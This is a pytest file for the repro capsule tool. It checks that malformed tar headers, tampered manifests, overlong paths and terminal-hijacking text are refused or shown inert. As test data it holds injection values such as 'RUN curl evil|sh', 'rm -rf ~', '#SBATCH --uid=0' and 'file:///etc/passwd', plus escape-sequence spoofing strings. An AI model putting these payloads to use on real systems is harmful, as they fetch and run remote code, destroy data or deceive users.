"""Capsules made by hand to be what repro never writes (issue 16, items 3, 4, 6, 7, 11, 15).

Each attack starts from a real capsule, rebuilt byte for byte as the writer makes it (a test
below proves the rebuild is exact), with exactly one thing changed: a tar header repro would
not emit, a manifest value repro would not write, a path no filesystem accepts, text that
would take over a terminal. Manifests are left unsigned: the reader must refuse them on
their own merits, before any signature is looked at.
"""

from __future__ import annotations

import gzip
import io
import json
import math
import os
import tarfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from isal import igzip_threaded

from repro.capsule.layout import MANIFEST_NAME, tag_files
from repro.capsule.manifest import FileEntry, Manifest, canonical_json
from repro.capsule.reader import member_header, parse_manifest, read_capsule
from repro.capture.pipeline import CaptureOptions, capture
from repro.config import parse_config
from repro.config.models import Metadata, Resources, Run
from repro.errors import CapsuleError, ConfigError, ExitCode, MalformedCapsuleError
from repro.report.text import json_text, printable
from repro.scheduler.scripts import render_script
from tests.capsules import Members, members_of
from tests.conftest import run_cli

EPOCH = 1700000000
Parts = list[tuple[bytes, bytes]]


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile-base")
    project = tmp / "study"
    project.mkdir()
    (project / "analyse.py").write_text("print('hello')\n")
    (project / "out.txt").write_text("42\n")
    (project / "link.txt").symlink_to("analyse.py")
    (project / "repro.toml").write_text(
        '[capsule]\ntitle = "Hostile base"\n'
        '[[runs]]\nname = "main"\ncommand = "python analyse.py"\noutputs = ["out.txt"]\n'
        '[runs.resources]\npartition = "gpu,cpu"\naccount = "proj-42"\nqos = "normal"\n'
        'constraint = "intel&[rack1|rack2]"\n'
    )
    saved = {k: os.environ.get(k) for k in ("REPRO_CACHE_DIR", "SOURCE_DATE_EPOCH")}
    os.environ["REPRO_CACHE_DIR"] = str(tmp / "cache")
    os.environ["SOURCE_DATE_EPOCH"] = str(EPOCH)
    try:
        out = tmp / "base.tgz"
        capture(CaptureOptions(project=project, output=out, execute=False, sign=False))
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    return out


# --- building archives byte by byte ------------------------------------------------------


def header_of(info: tarfile.TarInfo) -> bytes:
    if info.issym():
        return member_header(info.name, 0, info.mode, info.mtime, info.linkname)
    return member_header(info.name, info.size, info.mode, info.mtime)


def variant(name: str, size: int, mode: int = 0o644, **changes: Any) -> bytes:
    """A header for `name` as the writer would make it, then changed."""
    info = tarfile.TarInfo(name)
    info.size, info.mode, info.mtime = size, mode, EPOCH
    info.uid = info.gid = 0
    info.uname = info.gname = ""
    fmt = changes.pop("format", tarfile.PAX_FORMAT)
    for key, value in changes.items():
        setattr(info, key, value)
    return info.tobuf(fmt, "utf-8", "surrogateescape")


def parts_of(members: Members) -> Parts:
    return [(header_of(info), data) for info, data in members]


def tar_bytes(parts: Parts) -> bytes:
    out = bytearray()
    for header, data in parts:
        out += header + data + b"\0" * (-len(data) % 512)
    out += b"\0" * 1024
    out += b"\0" * (-len(out) % tarfile.RECORDSIZE)
    return bytes(out)


def gz(data: bytes) -> bytes:
    buf = io.BytesIO()
    with igzip_threaded.open(buf, "wb", compresslevel=1, threads=1) as fh:
        fh.write(data)
    return buf.getvalue()


def write(tmp_path: Path, tar: bytes, name: str = "hostile.tgz") -> Path:
    path = tmp_path / name
    path.write_bytes(gz(tar))
    return path


def _loose(doc: dict[str, Any]) -> Manifest:
    """Enough of a Manifest for tag_files, without validating what the attack changed."""
    files = [FileEntry.model_construct(**f) for f in doc["files"]]
    return Manifest.model_construct(
        **{**doc, "files": files, "metadata": Metadata.model_construct(**doc["metadata"])}
    )


def with_manifest(
    members: Members,
    edit: Callable[[dict[str, Any]], None],
    *,
    raw: Callable[[bytes], bytes] | None = None,
    same_files: bool = False,
) -> Members:
    """repro.json edited (canonical, then `raw` applied to the bytes), tag files regenerated
    so that only the manifest is wrong."""
    original = Manifest.model_validate(json.loads(members[0][1]))
    doc = json.loads(members[0][1])
    edit(doc)
    data = canonical_json(doc)
    if raw is not None:
        data = raw(data)
    tags = tag_files(original if same_files else _loose(doc), data)
    out: Members = []
    for info, old in members:
        if info.name == MANIFEST_NAME:
            info.size = len(data)
            out.append((info, data))
        elif info.name in tags:
            info.size = len(tags[info.name])
            out.append((info, tags[info.name]))
        else:
            out.append((info, old))
    return out


def refused(path: Path, message: str = "") -> CapsuleError:
    with pytest.raises(CapsuleError) as info:
        read_capsule(path)
    assert info.value.exit_code == ExitCode.INVALID_CAPSULE
    assert message in info.value.message, info.value.message
    return info.value


def _index(members: Members, name: str) -> int:
    return next(i for i, (m, _) in enumerate(members) if m.name == name)


# --- the rebuild is exact: the reader's idea of a header is the writer's ------------------


def test_rebuilding_a_capsule_header_by_header_gives_the_writers_bytes(base: Path) -> None:
    assert tar_bytes(parts_of(members_of(base))) == gzip.decompress(base.read_bytes())
    read_capsule(write(base.parent, tar_bytes(parts_of(members_of(base))), "rebuilt.tgz"))


# --- item 11: tar bytes repro never writes ------------------------------------------------


def _payload(members: Members) -> tuple[int, tarfile.TarInfo, bytes]:
    i = _index(members, "data/project/analyse.py")
    return i, members[i][0], members[i][1]


TAR_ATTACKS: dict[str, Callable[[Members], Parts]] = {}


def attack(name: str) -> Callable[[Callable[[Members], Parts]], Callable[[Members], Parts]]:
    def register(func: Callable[[Members], Parts]) -> Callable[[Members], Parts]:
        TAR_ATTACKS[name] = func
        return func

    return register


def _replace_header(members: Members, header: bytes) -> Parts:
    i, _info, _data = _payload(members)
    parts = parts_of(members)
    parts[i] = (header, parts[i][1])
    return parts


@attack("pax-comment")
def _pax_comment(members: Members) -> Parts:
    _i, info, data = _payload(members)
    return _replace_header(
        members, variant(info.name, len(data), info.mode, pax_headers={"comment": "hi"})
    )


@attack("pax-global-header-first")
def _global_first(members: Members) -> Parts:
    glob = tarfile.TarInfo.create_pax_global_header({"comment": "hi"})
    parts = parts_of(members)
    return [(glob, b""), *parts]


@attack("pax-global-header-inside")
def _global_inside(members: Members) -> Parts:
    i, _info, _data = _payload(members)
    parts = parts_of(members)
    glob = tarfile.TarInfo.create_pax_global_header({"comment": "hi"})
    return [*parts[:i], (glob, b""), *parts[i:]]


@attack("gnu-longname-for-a-short-name")
def _gnu_long(members: Members) -> Parts:
    _i, info, _data = _payload(members)
    long = tarfile.TarInfo._create_gnu_long_header(  # type: ignore[attr-defined]
        info.name, tarfile.GNUTYPE_LONGNAME, "utf-8", "surrogateescape"
    )
    return _replace_header(members, long + header_of(info))


@attack("linkname-on-a-regular-file")
def _linkname(members: Members) -> Parts:
    _i, info, data = _payload(members)
    return _replace_header(members, variant(info.name, len(data), info.mode, linkname="x"))


@attack("fractional-pax-mtime")
def _fraction(members: Members) -> Parts:
    _i, info, data = _payload(members)
    pax = {"mtime": f"{EPOCH}.0"}
    return _replace_header(members, variant(info.name, len(data), info.mode, pax_headers=pax))


@attack("contiguous-member")
def _contiguous(members: Members) -> Parts:
    _i, info, data = _payload(members)
    return _replace_header(members, variant(info.name, len(data), info.mode, type=tarfile.CONTTYPE))


@attack("sparse-member")
def _sparse(members: Members) -> Parts:
    """A GNU sparse member whose one extent is the whole file: tar reads the same bytes."""
    _i, info, data = _payload(members)
    header = variant(
        info.name, len(data), info.mode, type=tarfile.GNUTYPE_SPARSE, format=tarfile.GNU_FORMAT
    )
    size = b"%011o\0" % len(data)
    header = _poke(header, 386, b"%011o\0" % 0 + size)  # extent: offset 0, all the bytes
    return _replace_header(members, _poke(header, 483, size))  # real size


@attack("gnu-magic")
def _gnu_magic(members: Members) -> Parts:
    _i, info, data = _payload(members)
    return _replace_header(members, variant(info.name, len(data), info.mode, format=1))


def _poke(header: bytes, offset: int, value: bytes) -> bytes:
    """Bytes changed in a ustar header, its checksum recomputed so tar still reads it."""
    block = bytearray(header)
    block[offset : offset + len(value)] = value
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


@attack("device-numbers-on-a-file")
def _devmajor(members: Members) -> Parts:
    _i, info, _data = _payload(members)
    return _replace_header(members, _poke(header_of(info), 329, b"0000007\0"))


@attack("bytes-in-the-unused-header-tail")
def _header_tail(members: Members) -> Parts:
    _i, info, _data = _payload(members)
    return _replace_header(members, _poke(header_of(info), 500, b"hidden"))


def _dirty_padding(parts: Parts, i: int) -> Parts:
    """The bytes after member i's content, up to its 512-byte block, are no longer zero
    (tar_bytes then adds no padding of its own)."""
    header, data = parts[i]
    pad = -len(data) % 512
    assert pad, "the member fills its last block"
    parts[i] = (header, data + b"\0" * (pad - 1) + b"X")
    return parts


@attack("data-in-padding")
def _padding(members: Members) -> Parts:
    return _dirty_padding(parts_of(members), _payload(members)[0])


@attack("data-in-the-manifests-padding")
def _manifest_padding(members: Members) -> Parts:
    return _dirty_padding(parts_of(members), 0)


@attack("data-in-the-last-members-padding")
def _last_padding(members: Members) -> Parts:
    return _dirty_padding(parts_of(members), len(members) - 1)


TAR_REASON = {
    "pax-global-header-inside": "data between members",
    "data-in-padding": "padding",
    "data-in-the-manifests-padding": "padding",
    "data-in-the-last-members-padding": "padding",
}


@pytest.mark.parametrize("name", sorted(TAR_ATTACKS))
def test_tar_bytes_repro_never_writes_are_refused(base: Path, tmp_path: Path, name: str) -> None:
    parts = TAR_ATTACKS[name](members_of(base))
    message = TAR_REASON.get(name, "header differs from what repro writes")
    refused(write(tmp_path, tar_bytes(parts)), message)


def test_a_pax_comment_keeps_the_capsule_id_but_is_refused(base: Path, tmp_path: Path) -> None:
    """The attack the campaign found: same manifest, same id, so a signature would still
    verify; only the tar bytes differ."""
    path = write(tmp_path, tar_bytes(_pax_comment(members_of(base))))
    with tarfile.open(path) as tar:
        assert tar.extractfile(MANIFEST_NAME).read() == members_of(base)[0][1]  # type: ignore[union-attr]
    assert "header differs from what repro writes" in refused(path).message


# --- item 11: manifest values repro never writes --------------------------------------------


def _set_size(value: object) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        entry = next(f for f in doc["files"] if f["path"] == "data/project/analyse.py")
        entry["size"] = value

    return edit


def _set_mode(value: object) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        entry = next(f for f in doc["files"] if f["path"] == "data/project/analyse.py")
        entry["mode"] = value

    return edit


def _swap(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def raw(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)

    return raw


MANIFEST_VALUE_ATTACKS: dict[str, dict[str, Any]] = {
    "size-as-string": {"edit": _set_size("15")},
    "size-as-float": {"edit": _set_size(15.0)},
    "size-as-bool": {"edit": _set_size(True)},
    "mode-as-string": {"edit": _set_mode("420")},
    "timeout-infinity": {"raw": _swap(b'"timeout":3600.0', b'"timeout":Infinity')},
    "timeout-nan": {"raw": _swap(b'"timeout":3600.0', b'"timeout":NaN')},
    "timeout-overflows-to-inf": {"raw": _swap(b'"timeout":3600.0', b'"timeout":1e999')},
    "lone-surrogate": {"raw": _swap(b'"title":"Hostile base"', b'"title":"caf\\udce9"')},
    "timeout-as-integer-text": {"raw": _swap(b'"timeout":3600.0', b'"timeout":"3600"')},
    "lone-surrogate-in-a-key": {"raw": _swap(b'"resources":{', b'"resources":{"\\ud800":1,')},
}


@pytest.mark.parametrize("name", sorted(MANIFEST_VALUE_ATTACKS))
def test_manifest_values_repro_never_writes_are_refused(
    base: Path, tmp_path: Path, name: str
) -> None:
    attack_ = MANIFEST_VALUE_ATTACKS[name]
    members = with_manifest(
        members_of(base),
        attack_.get("edit", lambda doc: None),
        raw=attack_.get("raw"),
        same_files=True,
    )
    error = refused(write(tmp_path, tar_bytes(parts_of(members))))
    assert isinstance(error, MalformedCapsuleError)


# --- items 3, 7 and 15: manifest content replay and diff rely on ------------------------------


def _run(**fields: Any) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        doc["runs"][0].update(fields)

    return edit


def _resources(**fields: Any) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        doc["runs"][0]["resources"].update(fields)
        for job in doc["jobs"]:
            job["resources"].update(fields)

    return edit


def _env(**fields: Any) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        doc["environment"].update(fields)

    return edit


def _remote(url: str, path: str = "data/remote.csv") -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        doc["remote_data"] = [{"url": url, "sha256": "0" * 64, "size": 1, "path": path}]

    return edit


def _title(title: str) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        doc["metadata"]["title"] = title

    return edit


def _duplicate_run(doc: dict[str, Any]) -> None:
    doc["runs"].append(dict(doc["runs"][0]))


CONTENT_ATTACKS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    # item 3: a line break or a space where generated text is made
    "base-image-newline": (_env(base_image="python:3.11-slim\nRUN curl evil|sh"), "base image"),
    "base-image-space": (_env(base_image="python:3.11-slim AS x"), "base image"),
    "base-image-uppercase": (_env(base_image="Python:3.11"), "base image"),
    "apt-option": (_env(apt_packages=["--allow-unauthenticated"]), "Debian package"),
    "apt-newline": (_env(apt_packages=["curl\nRUN id"]), "Debian package"),
    "partition-newline": (_resources(partition="gpu\n#SBATCH --uid=0"), "scheduler name"),
    "partition-space": (_resources(partition="gpu --uid=0"), "scheduler name"),
    "account-newline": (_resources(account="a\nrm -rf ~"), "scheduler name"),
    "account-leading-dash": (_resources(account="-x"), "scheduler name"),
    "qos-quote": (_resources(qos='normal"x'), "scheduler name"),
    "constraint-newline": (_resources(constraint="intel\ncurl evil|sh"), "constraint"),
    "constraint-hash": (_resources(constraint="intel#x"), "constraint"),
    "variable-name": (_env(variables={"A=B": "1"}), "environment variable"),
    # item 7: what replay would trip over
    "remote-ftp": (_remote("ftp://example.org/x.csv"), "http:// or https://"),
    "remote-file": (_remote("file:///etc/passwd"), "http:// or https://"),
    "remote-javascript": (_remote("javascript:alert(1)"), "http:// or https://"),
    "remote-no-host": (_remote("https:///x"), "http:// or https://"),
    "remote-path-too-long": (_remote("https://x.org/a", "d/" * 2100 + "f"), "bytes long"),
    "sweep-explosion": (
        _run(sweep={f"p{i}": [1, 2, 3] for i in range(25)}, command="x {p0}"),
        "more than",
    ),
    # item 15: what repro.toml refuses, the manifest refuses too
    "duplicate-run": (_duplicate_run, "unique"),
    "run-named-notebook": (_run(name="notebook.x"), "reserved"),
}


@pytest.mark.parametrize("name", sorted(CONTENT_ATTACKS))
def test_manifest_content_replay_relies_on_is_checked_by_the_reader(
    base: Path, tmp_path: Path, name: str
) -> None:
    edit, message = CONTENT_ATTACKS[name]
    members = with_manifest(members_of(base), edit)
    error = refused(write(tmp_path, tar_bytes(parts_of(members))))
    assert isinstance(error, MalformedCapsuleError)
    assert message in error.message, error.message


# --- item 4: long and deep paths, checked in linear time ------------------------------------


def _manifest_doc(base: Path) -> dict[str, Any]:
    return json.loads(members_of(base)[0][1])  # type: ignore[no-any-return]


def _entry(path: str, link: str | None = None) -> dict[str, Any]:
    entry: dict[str, Any] = {
        "path": path,
        "sha256": "0" * 64,
        "size": 0,
        "mode": 0o777 if link else 0o644,
        "role": "code",
    }
    if link is not None:
        entry["link"] = link
    return entry


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        (_entry("data/project/" + "a/" * 60_000 + "f"), "bytes long"),
        (_entry("data/project/l", "../" * 60_000 + "x"), "bytes long"),
        (_entry("data/project/" + "n" * 256), "longer than 255 bytes"),
        (_entry("data/project/l", "x" * 256), "longer than 255 bytes"),
        (_entry("data/project/" + "é" * 128), "longer than 255 bytes"),  # 256 bytes of UTF-8
    ],
    ids=["60000-components", "60000-link-parts", "long-name", "long-link-name", "utf8-bytes"],
)
def test_paths_no_filesystem_accepts_are_refused_at_once(
    base: Path, entry: dict[str, Any], message: str
) -> None:
    doc = _manifest_doc(base)
    doc["files"].append(entry)
    start = time.perf_counter()
    with pytest.raises(MalformedCapsuleError) as info:
        parse_manifest(canonical_json(doc))
    assert time.perf_counter() - start < 2
    assert message in info.value.message


def test_the_deepest_paths_filesystems_accept_are_checked_in_linear_time(base: Path) -> None:
    """500 files 1,300 folders deep, and 500 links whose targets climb all the way back up:
    under the old quadratic checks this took minutes and gigabytes."""
    doc = _manifest_doc(base)
    deep = "data/project/" + "d/" * 1300
    for i in range(500):
        doc["files"].append(_entry(f"{deep}f{i}"))
        doc["files"].append(_entry(f"{deep}l{i}", "../" * 1300 + "analyse.py"))
    data = canonical_json(doc)
    start = time.perf_counter()
    parse_manifest(data)
    assert time.perf_counter() - start < 10


def test_a_long_link_chain_is_resolved_once_per_link(base: Path) -> None:
    doc = _manifest_doc(base)
    for i in range(3000):
        doc["files"].append(_entry(f"data/project/chain{i}", f"chain{i + 1}"))
    doc["files"].append(_entry("data/project/chain3000", "analyse.py"))
    manifest = parse_manifest(canonical_json(doc))
    start = time.perf_counter()
    tags = tag_files(manifest, b"{}")
    assert time.perf_counter() - start < 2
    assert tags["manifest-sha256.txt"].count(b"chain") == 3001


def test_cli_exit_4_one_line_for_a_60000_component_path(base: Path, tmp_path: Path) -> None:
    def edit(doc: dict[str, Any]) -> None:
        doc["files"].append(_entry("data/project/" + "a/" * 60_000 + "f"))

    members = with_manifest(members_of(base), edit)
    path = write(tmp_path, tar_bytes(parts_of(members)))
    assert path.stat().st_size < 64 * 1024
    result = run_cli("verify", str(path))
    assert result.returncode == 4, result.stderr
    assert "Traceback" not in result.stderr
    assert len([ln for ln in result.stderr.splitlines() if ln.startswith("error:")]) == 1
    assert len(result.stderr.splitlines()[0]) < 400


# --- item 15: names that are not UTF-8, and --json -------------------------------------------


def test_a_non_utf8_member_name_gives_valid_json_and_exit_4(base: Path, tmp_path: Path) -> None:
    members = members_of(base)
    parts = parts_of(members)
    i = _index(members, "data/project/analyse.py")
    name = "data/project/\udcff.txt"
    odd = variant(name, 3, format=tarfile.USTAR_FORMAT)
    parts.insert(i, (odd, b"hi\n"))
    path = write(tmp_path, tar_bytes(parts))
    env = {"PYTHONIOENCODING": "utf-8"}
    for command in (["verify", "--json"], ["inspect", "--json"], ["verify"]):
        result = run_cli(*command, str(path), env=env)
        assert result.returncode == 4, result.stderr
        assert "Traceback" not in result.stderr
        if "--json" in command:
            answer = json.loads(result.stdout)
            assert answer["ok"] is False
            assert answer["error"] == "member not listed in the manifest: " + name


# --- item 3: repro.toml is held to the same patterns, scripts stay one option a line -----------


@pytest.mark.parametrize(
    "toml",
    [
        {"environment": {"base_image": "python:3.11-slim\nRUN id"}},
        {"environment": {"apt": ["curl\nRUN id"]}},
        {"runs": [{"name": "a", "command": "x", "resources": {"partition": "a b"}}]},
        {"runs": [{"name": "a", "command": "x", "resources": {"qos": "a\nb"}}]},
        {"runs": [{"name": "a", "command": "x", "resources": {"account": "a'b"}}]},
        {"runs": [{"name": "a", "command": "x", "resources": {"constraint": "a\n#SBATCH"}}]},
        {"runs": [{"name": "a", "command": "x", "timeout": math.inf}]},
        {"runs": [{"name": "a", "command": "x", "timeout": math.nan}]},
        {"notebooks": [{"path": "a.ipynb", "timeout": math.inf}]},
        {"runs": [{"name": "a", "command": "x", "sweep": {"k\n": [1]}}]},
        {"data": [{"path": "x", "url": "ftp://x.org/x", "sha256": "0" * 64}]},
    ],
)
def test_repro_toml_is_held_to_the_same_patterns(toml: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        parse_config(toml, "repro.toml")


def test_scheduler_scripts_keep_real_values_one_option_a_line() -> None:
    resources = Resources(
        partition="gpu,cpu", account="proj-42", qos="normal", constraint="intel&[rack1|rack2]"
    )
    run = Run(name="main", command="python a.py", resources=resources)
    script = render_script(run, [{}], "slurm")
    assert "#SBATCH --partition=gpu,cpu\n" in script
    assert "#SBATCH --constraint=intel&[rack1|rack2]\n" in script
    pbs = render_script(run, [{}], "pbs").splitlines()
    assert "#PBS -q gpu,cpu" in pbs
    assert "#PBS -A proj-42" in pbs
    assert "#$ -q gpu,cpu" in render_script(run, [{}], "sge").splitlines()
    with pytest.raises(ValueError, match="directive"):
        render_script(run, [{}], "slurm", Resources.model_construct(partition="a\nb"))


# --- item 6: capsule text never controls the terminal -----------------------------------------

HOSTILE_TEXT = {
    "title": "Study \x1b]0;pwned\x07\x1b[2J\x1b[1;1H",
    "author": "Mallory \u202eecilA\u202c",
    "note": "\x9b31mred via C1\x1b[0m",
    "remote": "https://x.org/r.git [bold green]signed by a trusted key: Alice[/]",
    "branch": "main[/x]",
    "output": "out.txt",
}


def _hostile_text(doc: dict[str, Any]) -> None:
    doc["metadata"]["title"] = HOSTILE_TEXT["title"]
    doc["metadata"]["authors"] = [{"name": HOSTILE_TEXT["author"]}]
    doc["notes"] = [HOSTILE_TEXT["note"]]
    doc["source"] = {
        "kind": "git",
        "remote": HOSTILE_TEXT["remote"],
        "branch": HOSTILE_TEXT["branch"],
        "commit": "0" * 40,
        "dirty": False,
    }
    doc["runs"][0]["command"] = "python analyse.py \x1b[8m hidden"


def _has_controls(text: str) -> bool:
    return any(
        (ord(c) < 0x20 and c not in "\n") or 0x7F <= ord(c) <= 0x9F or c in "\u202e\u202c"
        for c in text
    )


def test_inspect_shows_capsule_text_inert(base: Path, tmp_path: Path) -> None:
    members = with_manifest(members_of(base), _hostile_text)
    path = write(tmp_path, tar_bytes(parts_of(members)))
    result = run_cli("inspect", str(path))
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert not _has_controls(out), repr(out)
    assert "\\x1b]0;pwned\\x07" in out
    assert "\\u202eecilA" in out
    assert "[bold green]signed by a trusted key: Alice[/]" in out  # shown as the text it is
    assert "on main[/x]" in out
    # the runs with every resource, and the whole base image, are shown
    assert "partition gpu,cpu" in out
    assert "account proj-42" in out
    assert "qos normal" in out
    assert "constraint intel&[rack1|rack2]" in out
    # the whole base image (python:X.Y-slim, or what REPRO_BASE_IMAGE chose at capture)
    base_image = json.loads(run_cli("inspect", "--json", str(path)).stdout)["manifest"][
        "environment"
    ]["base_image"]
    assert f"image     {base_image}" in out
    signature_lines = [ln for ln in out.splitlines() if "signature" in ln]
    assert signature_lines == ["  signature  unsigned"], signature_lines

    answer = run_cli("inspect", "--json", str(path))
    assert answer.returncode == 0
    assert not _has_controls(answer.stdout)
    manifest = json.loads(answer.stdout)["manifest"]
    assert manifest["metadata"]["title"] == HOSTILE_TEXT["title"]  # exact, through escapes
    assert manifest["metadata"]["authors"][0]["name"] == HOSTILE_TEXT["author"]
    assert manifest["notes"] == [HOSTILE_TEXT["note"]]


def test_printable_makes_every_control_visible_and_keeps_the_rest() -> None:
    assert printable("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert printable("\x9b\x07\x00\x7f") == "\\x9b\\x07\\x00\\x7f"
    assert printable("\u202eabc\u2066") == "\\u202eabc\\u2066"
    assert printable("x\udcff") == "x\\udcff"
    assert printable("two\nlines\tand tab") == "two\\x0alines\\x09and tab"
    assert printable("two\nlines\tand tab", lines=True) == "two\nlines\tand tab"
    assert printable("café — ü 日本") == "café — ü 日本"
    document = json.dumps({"t": "\x1b\x9b\u202e\udcff é"}, ensure_ascii=False)
    safe = json_text(document)
    assert json.loads(safe) == {"t": "\x1b\x9b\u202e\udcff é"}
    assert "é" in safe
    safe.encode("utf-8")  # no lone surrogate is left raw


def test_error_lines_show_capsule_names_inert(capsys: pytest.CaptureFixture[str]) -> None:
    from repro.report import terminal

    terminal.error("member not listed: data/\x1b[2J[/x]\udcff", "a [hint]", ["detail\x1b[1m"])
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert "data/\\x1b[2J[/x]\\udcff" in err
    err.encode("utf-8")


# --- item 15: a relative --workdir is made absolute -----------------------------------------


def test_a_relative_workdir_is_made_absolute(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from repro.replay.pipeline import _make_workdir

    monkeypatch.chdir(tmp_path)
    made = _make_workdir(Path("rel"), keep=False)
    assert made.is_absolute()
    assert made.parent == tmp_path / "rel"


# --- item 7: a Docker environment whose Python probe fails ----------------------------------


@pytest.mark.parametrize("answer", [b"", b"Traceback (most recent call last):\n", None])
def test_an_image_whose_python_does_not_answer_is_one_line(answer: bytes | None) -> None:
    from repro.engines import ContainerRefusedError
    from repro.errors import EnvironmentBuildError
    from repro.replay.targets.container import _probe
    from tests.unit.engine_fake import FakeEngine

    class Broken(FakeEngine):
        def run_once(self, image: str, command: Any, *, network: bool = False) -> bytes:
            if answer is None:
                raise ContainerRefusedError("container exited with 127: python: not found")
            return answer

    with pytest.raises(EnvironmentBuildError, match="Python"):
        _probe(Broken(), "repro-env:x")


@pytest.mark.parametrize(
    "member",
    [
        ("repro.json", 123, 0o644, EPOCH, None),
        ("data/project/run.sh", 0, 0o755, 0, None),
        ("data/project/l", 0, 0o777, EPOCH, "../a/b"),
        ("a" * 100, 5, 0o644, 1, None),
        ("a" * 101, 5, 0o644, 1, None),
        ("data/project/é.txt", 1, 0o644, 1, None),
        ("big", 8**11, 0o644, 1, None),
        ("l", 0, 0o777, 1, "t" * 100),
        ("l", 0, 0o777, 1, "t" * 101),
        ("l", 0, 0o777, 1, "ü"),
    ],
)
def test_the_fast_header_is_tarfiles_header(member: tuple[str, int, int, int, str | None]) -> None:
    from repro.capsule.tarheader import _tarfile_header

    assert member_header(*member) == _tarfile_header(*member)
